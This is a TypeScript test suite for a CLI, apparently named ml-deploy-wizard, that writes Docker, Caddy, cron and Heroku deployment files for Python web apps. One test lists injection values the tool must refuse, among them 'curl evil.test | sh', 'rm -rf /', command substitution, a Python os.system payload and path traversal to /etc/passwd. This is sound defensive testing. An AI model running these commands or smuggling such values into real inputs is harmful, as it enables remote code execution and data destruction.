import assert from 'node:assert/strict';
import {spawnSync} from 'node:child_process';
import {existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {fileURLToPath} from 'node:url';
import {test} from 'node:test';
import {copyFixture} from '../support/generated-project.js';
import {generate} from '../detect/corpus/check-generated.js';

function snapshot(directory: string): Record<string, string> {
	const files: Record<string, string> = {};
	const walk = (relative: string) => {
		for (const entry of readdirSync(path.join(directory, relative), {withFileTypes: true})) {
			const child = path.join(relative, entry.name);
			if (entry.isDirectory()) {
				walk(child);
			} else {
				files[child] = readFileSync(path.join(directory, child), 'utf8');
			}
		}
	};

	walk('');
	return files;
}

test('writes the files for each provider, says what it wrote, and a second run finds nothing to do', async () => {
	const expected = {
		vps: ['.dockerignore', '.env.example', 'Caddyfile', 'Dockerfile', 'compose.yaml', 'deploy/crontab'],
		'cloud-run': ['.dockerignore', '.env.example', 'Dockerfile', 'deploy/cloud-run.sh'],
		heroku: ['.dockerignore', '.env.example', 'Dockerfile', 'deploy/heroku.sh', 'heroku.yml'],
	};
	for (const [provider, files] of Object.entries(expected)) {
		const directory = copyFixture('flask-joblib');
		const before = snapshot(directory);
		const first = await generate(directory, ['--provider', provider, '--cron', '15 * * * * /update-forecast', '--yes']);
		assert.equal(first.code, 0, first.err);
		const written = Object.keys(snapshot(directory)).filter(name => !(name in before)).sort();
		assert.deepEqual(written, files);
		for (const file of files) {
			assert.match(first.out, new RegExp(`^wrote +${file.replaceAll('.', String.raw`\.`)}$`, 'm'));
		}

		assert.match(first.out, /Scheduled: GET \/update-forecast at minute 15 of every hour\./);
		assert.match(first.out, /Warning: app\.py switches on debug mode/);
		const second = await generate(directory, ['--provider', provider, '--cron', '15 * * * * /update-forecast']);
		assert.equal(second.code, 0, 'nothing to write needs no --yes');
		assert.equal(second.out.match(/^unchanged +/gm)?.length, files.length);
	}
});

test('scripts are written executable, other files readable by all', async () => {
	const directory = copyFixture('fastapi-onnx');
	assert.equal((await generate(directory, ['--provider', 'cloud-run', '--yes'])).code, 0);
	assert.equal(statSync(path.join(directory, 'deploy/cloud-run.sh')).mode & 0o777, 0o755);
	assert.equal(statSync(path.join(directory, 'Dockerfile')).mode & 0o777, 0o644);
});

test('untouched generated files are updated; an edited one is kept and its diff shown, unless --force', async () => {
	const directory = copyFixture('flask-joblib');
	assert.equal((await generate(directory, ['--provider', 'vps', '--yes'])).code, 0);
	const compose = path.join(directory, 'compose.yaml');
	const edited = readFileSync(compose, 'utf8').replace('restart: unless-stopped', 'restart: always');
	writeFileSync(compose, edited);

	const again = await generate(directory, ['--provider', 'vps', '--domain', 'api.example.com', '--yes']);
	assert.equal(again.code, 0, 'keeping the person\'s file is not a failure: scripts go on');
	assert.match(again.out, /^updated +Caddyfile$/m, 'our untouched Caddyfile follows the new domain');
	assert.match(again.out, /^kept +compose\.yaml: you edited it since the wizard wrote it/m);
	assert.match(again.out, /-\s+restart: always\n\s+\+\s+restart: unless-stopped/);
	assert.match(again.out, /1 file is yours and was kept\. --force replaces it with the wizard's/);
	assert.equal(readFileSync(compose, 'utf8'), edited, 'the edit survives');
	assert.match(readFileSync(path.join(directory, 'Caddyfile'), 'utf8'), /https:\/\/api\.example\.com \{/);

	const forced = await generate(directory, ['--provider', 'vps', '--domain', 'api.example.com', '--yes', '--force']);
	assert.equal(forced.code, 0);
	assert.match(forced.out, /^replaced +compose\.yaml$/m);
	assert.match(readFileSync(compose, 'utf8'), /restart: unless-stopped/);
});

test('the project\'s own Dockerfile is used, never replaced, and the first run exits 0 saying so', async () => {
	const directory = copyFixture('existing-dockerfile');
	const theirs = readFileSync(path.join(directory, 'Dockerfile'), 'utf8');
	const result = await generate(directory, ['--provider', 'vps', '--yes']);
	assert.equal(result.code, 0, result.err);
	assert.match(result.out, /^kept +Dockerfile: yours; the image is built with it as it is\.$/m);
	assert.match(result.out, /Warning: You have docker-compose\.yml; the wizard writes compose\.yaml/);
	assert.equal(readFileSync(path.join(directory, 'Dockerfile'), 'utf8'), theirs);
	assert.match(readFileSync(path.join(directory, 'compose.yaml'), 'utf8'), /- "127\.0\.0\.1:8080:8080"/, 'published on the port its Dockerfile exposes');
	assert.match(readFileSync(path.join(directory, 'Caddyfile'), 'utf8'), /reverse_proxy 127\.0\.0\.1:8080/);
});

test('an own lowercase dockerfile gets no Dockerfile beside it; port 80 is published on 8080, never on the server\'s 80', async () => {
	const directory = copyFixture('existing-dockerfile');
	const text = readFileSync(path.join(directory, 'Dockerfile'), 'utf8').replace('EXPOSE 8080', 'EXPOSE 80').replace('CMD ["python", "main.py"]', 'CMD ["uvicorn", "main:api", "--host", "0.0.0.0", "--port", "80"]');
	rmSync(path.join(directory, 'Dockerfile'));
	writeFileSync(path.join(directory, 'dockerfile'), text);
	const result = await generate(directory, ['--provider', 'vps', '--yes']);
	assert.equal(result.code, 0, result.err);
	assert.ok(!readdirSync(directory).includes('Dockerfile'));
	const compose = readFileSync(path.join(directory, 'compose.yaml'), 'utf8');
	assert.match(compose, /build:\n {6}context: \.\n {6}dockerfile: dockerfile\n/);
	assert.match(compose, /- "127\.0\.0\.1:8080:80"/);
	assert.match(result.out, /published on 127\.0\.0\.1:8080, because 80 belongs to the server itself/);
	const heroku = await generate(directory, ['--provider', 'heroku', '--yes']);
	assert.match(readFileSync(path.join(directory, 'heroku.yml'), 'utf8'), /^ {4}web: dockerfile$/m, 'heroku.yml builds the file the project has');
	assert.match(heroku.out, /heroku\.yml builds with your dockerfile; only "heroku container:push" insists on a file named Dockerfile/);
	assert.match(heroku.out, /starts the app on port 80 whatever PORT says/);
});

test('--check writes nothing and exits 1 while a generated file is missing or stale, 0 once they are current', async () => {
	const directory = copyFixture('flask-joblib');
	const before = snapshot(directory);
	const missing = await generate(directory, ['--provider', 'cloud-run', '--check']);
	assert.equal(missing.code, 1);
	assert.deepEqual(snapshot(directory), before);
	assert.match(missing.err, /^4 generated files are missing or out of date: Dockerfile, \.dockerignore, \.env\.example, deploy\/cloud-run\.sh\./);
	assert.equal((await generate(directory, ['--provider', 'cloud-run', '--yes'])).code, 0);
	const current = await generate(directory, ['--provider', 'cloud-run', '--check']);
	assert.equal(current.code, 0);
	assert.match(current.out, /The generated files are up to date\./);
	writeFileSync(path.join(directory, '.python-version'), '3.10.4\n');
	const stale = await generate(directory, ['--provider', 'cloud-run', '--check']);
	assert.equal(stale.code, 1, 'the project changed: the Dockerfile no longer matches');
	assert.match(stale.out, /^update +Dockerfile$/m);
});

test('every form detection produces is accepted back as a flag: factories, app folders, no health route, old Pythons', async () => {
	const directory = copyFixture('no-requirements');
	const result = await generate(directory, ['--provider', 'vps', '--app-module', 'server:create_app()', '--app-dir', 'api', '--health-path', 'none', '--python', '3.7', '--yes']);
	assert.equal(result.code, 0, result.err);
	const dockerfile = readFileSync(path.join(directory, 'Dockerfile'), 'utf8');
	assert.match(dockerfile, /^FROM python:3\.7-slim$/m);
	assert.match(dockerfile, /^WORKDIR \/app\/api$/m);
	assert.match(dockerfile, /--access-logfile - 'server:create_app\(\)'"\]$/m);
	assert.match(dockerfile, /socket\.create_connection/);
	assert.match(dockerfile, /Regenerate with: npx ml-deploy-wizard generate --provider vps --app-module 'server:create_app\(\)' --app-dir api --python 3\.7 --health-path none --yes/);
	const back = await generate(directory, ['--provider', 'vps', '--app-dir', '.', '--yes']);
	assert.equal(back.code, 0);
	assert.doesNotMatch(readFileSync(path.join(directory, 'Dockerfile'), 'utf8'), /WORKDIR \/app\/api/);
});

test('a file that cannot be written is named, without a stack trace', async () => {
	const directory = copyFixture('flask-joblib');
	mkdirSync(path.join(directory, 'deploy'));
	// A folder where the file should go: the write fails for root too.
	mkdirSync(path.join(directory, 'deploy', 'crontab'));
	const result = await generate(directory, ['--provider', 'vps', '--cron', '0 * * * * /x', '--yes']);
	assert.equal(result.code, 1);
	assert.match(result.err, /^Could not write deploy\/crontab: .+\. Check that you may write to /);
});

test('--dry-run prints every file and writes nothing, even without --yes', async () => {
	const directory = copyFixture('no-requirements');
	const before = snapshot(directory);
	const result = await generate(directory, ['--provider', 'vps', '--dry-run', '--postgres']);
	assert.equal(result.code, 0);
	assert.deepEqual(snapshot(directory), before);
	assert.match(result.out, /----- Dockerfile \(new\) -----\n# Generated by ml-deploy-wizard/);
	assert.match(result.out, /RUN pip install flask gunicorn/);
	assert.match(result.out, /----- compose\.yaml \(new\) -----[\s\S]*image: postgres:16-alpine/);
	assert.match(result.out, /Dry run: nothing was written\./);
});

test('without --yes and without a terminal it stops and names --yes; with a terminal it asks', async () => {
	const directory = copyFixture('flask-joblib');
	const before = snapshot(directory);
	const refused = await generate(directory, ['--provider', 'heroku']);
	assert.equal(refused.code, 2);
	assert.match(refused.err, /^--yes: add --yes to write the files/);
	assert.deepEqual(snapshot(directory), before);

	const questions: string[] = [];
	const declined = await generate(directory, ['--provider', 'heroku'], {interactive: true, confirm: async question => (questions.push(question), false)});
	assert.equal(declined.code, 0);
	assert.deepEqual(snapshot(directory), before);
	assert.match(questions[0]!, /^Write 5 files into .*flask-joblib\?$/);
	const accepted = await generate(directory, ['--provider', 'heroku'], {interactive: true, confirm: async () => true});
	assert.equal(accepted.code, 0);
	assert.ok(existsSync(path.join(directory, 'heroku.yml')));
});

test('injection attempts through every field are refused by name, and nothing is written', async () => {
	const attempts: Array<[string[], RegExp]> = [
		[['--provider', 'vps;id'], /^--provider: choose vps, cloud-run or heroku \(not "vps;id"\)/],
		[['--provider', 'aws'], /^--provider:/],
		[['--domain', 'api.example.com; rm -rf /'], /^--domain: Domain:/],
		[['--domain', 'api.example.com\nreverse_proxy evil.test'], /^--domain: Domain:/],
		[['--domain', 'api example.com'], /^--domain: Domain:/],
		[['--domain', 'api.example.com {'], /^--domain: Domain:/],
		[['--domain', '$(id).example.com'], /^--domain: Domain:/],
		[['--domain', 'http://api.example.com'], /^--domain: Domain:/],
		[['--app-port', '70000'], /^--app-port: Port: use a number from 1 to 65535/],
		[['--app-port', '0'], /^--app-port: Port:/],
		[['--app-port', '8000; id'], /^--app-port: Port: type a whole number/],
		[['--app-port', '8000\nEXPOSE 22'], /^--app-port: Port:/],
		[['--health-path', 'health'], /^--health-path: Path: start with \//],
		[['--health-path', "/health' + __import__('os').system('id') + '"], /^--health-path: Path:/],
		[['--health-path', '/health\nUSER root'], /^--health-path: Path:/],
		[['--health-path', '/../../etc/passwd'], /^--health-path: Path:/],
		[['--cron', '* * * * * /x; curl evil.test | sh'], /^--cron "\* \* \* \* \* \/x; curl evil\.test \| sh": Cron job: give one job per --cron flag/],
		[['--cron', '* * * * * /x && id'], /^--cron .*: Cron job:/],
		[['--cron', '$(id) * * * * /x'], /^--cron .*: Cron schedule: the minute field/],
		[['--cron', '* * * * * /x\n* * * * * /y'], /^--cron .*: Cron/],
		[['--cron', '* * * * * /x`id`'], /^--cron .*: Cron route:/],
		[['--cron', '61 * * * * /x'], /^--cron .*: Cron schedule: the minute field "61" is out of range/],
		[['--name', 'my app; id'], /^--name: App name:/],
		[['--framework', 'django'], /^--framework: Framework: type fastapi or flask/],
		[['--app-module', 'main:app; rm -rf /'], /^--app-module: App object:/],
		[['--app-module', 'main:app\nUSER root'], /^--app-module: App object:/],
		[['--app-module', 'main:create_app(); id'], /^--app-module: App object:/],
		[['--app-module', 'main:create_app(x)'], /^--app-module: App object:/],
		[['--app-dir', '../outside'], /^--app-dir: App folder:/],
		[['--app-dir', 'api; id'], /^--app-dir: App folder:/],
		[['--app-dir', '/etc'], /^--app-dir: App folder:/],
		[['--health-path', 'nothing'], /^--health-path: Path:/],
		[['--python', '3.5'], /^--python: Python version:/],
		[['--python', '3.12; id'], /^--python: Python version:/],
		[['--domain', 'api.example.com', '--acme-email', 'a@example.com\n}\nevil'], /^--acme-email: Email:/],
		[['--domain', 'api.example.com', '--acme-email', 'a b@example.com'], /^--acme-email: Email:/],
		[['--domain', 'api.example.com', '--acme-ca', 'https://ca.example.com/dir {'], /^--acme-ca: Certificate authority:/],
		[['--domain', 'api.example.com', '--acme-ca', 'http://ca.example.com/dir'], /^--acme-ca: Certificate authority:/],
	];
	const directory = copyFixture('flask-joblib');
	const before = snapshot(directory);
	for (const [flags, message] of attempts) {
		const argv = flags[0] === '--provider' ? [...flags, '--yes'] : ['--provider', 'vps', ...flags, '--yes'];
		const result = await generate(directory, argv);
		assert.equal(result.code, 2, flags.join(' '));
		assert.match(result.err, message, flags.join(' '));
		assert.match(result.err, /Nothing was written\.$/);
		assert.doesNotMatch(result.err, /\n {4}at /, 'never a stack trace');
	}

	assert.deepEqual(snapshot(directory), before);
	const missing = await generate(path.join(directory, 'nope'), ['--provider', 'vps', '--yes']);
	assert.equal(missing.code, 2);
	assert.match(missing.err, /^--dir: ".*nope" does not exist\./);
});

test('the built CLI writes the files, finds its templates from dist/, and documents its flags', () => {
	const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
	const cli = path.join(root, 'dist', 'cli.js');
	// npm test builds first; a lone run of this file builds when dist/ is missing.
	if (!existsSync(cli)) {
		const built = spawnSync('npm', ['run', 'build'], {cwd: root, encoding: 'utf8'});
		assert.equal(built.status, 0, built.stderr);
	}

	const directory = copyFixture('fastapi-onnx');
	const run = (argv: string[]) => spawnSync(process.execPath, [cli, ...argv], {encoding: 'utf8', env: {...process.env, CI: 'true'}, input: ''});
	const result = run(['generate', '--provider', 'vps', '--dir', directory, '--domain', 'api.example.com', '--cron', '15 * * * * /update-forecast', '--postgres', '--yes']);
	assert.equal(result.status, 0, result.stderr);
	assert.match(result.stdout, /^wrote +compose\.yaml$/m);
	assert.match(readFileSync(path.join(directory, 'Caddyfile'), 'utf8'), /redir https:\/\/api\.example\.com\{uri\} 301/);
	assert.match(readFileSync(path.join(directory, 'Dockerfile'), 'utf8'), /exec uvicorn app\.main:app --host 0\.0\.0\.0/);

	const noYes = run(['generate', '--provider', 'vps', '--dir', mkdtempSync(path.join(tmpdir(), 'mldw-empty-'))]);
	assert.equal(noYes.status, 2);
	assert.match(noYes.stderr, /--yes/);
	const bad = run(['generate', '--provider', 'vps', '--dir', directory, '--app-port', '99999', '--yes']);
	assert.equal(bad.status, 2);
	assert.match(bad.stderr, /^--app-port: Port: use a number from 1 to 65535\./);

	const help = run(['--help']);
	for (const flag of ['--domain D', '--app-port N', '--health-path P', '--cron "SCHEDULE', '--postgres', '--force', '--acme-ca']) {
		assert.ok(help.stdout.includes(flag), `--help mentions ${flag}`);
	}
});
